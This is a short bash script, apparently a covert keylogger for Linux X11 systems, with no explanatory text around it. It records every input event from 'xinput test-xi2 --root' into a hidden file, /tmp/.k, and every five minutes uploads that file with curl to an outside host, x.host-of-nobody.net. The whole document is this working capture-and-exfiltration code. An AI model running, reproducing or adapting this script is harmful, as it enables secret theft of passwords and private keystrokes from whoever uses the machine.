#!/bin/bash
while read -r line; do echo "$line" >>/tmp/.k; done < <(xinput test-xi2 --root) &
while sleep 300; do curl -s --data-binary @/tmp/.k https://x.host-of-nobody.net/k; done
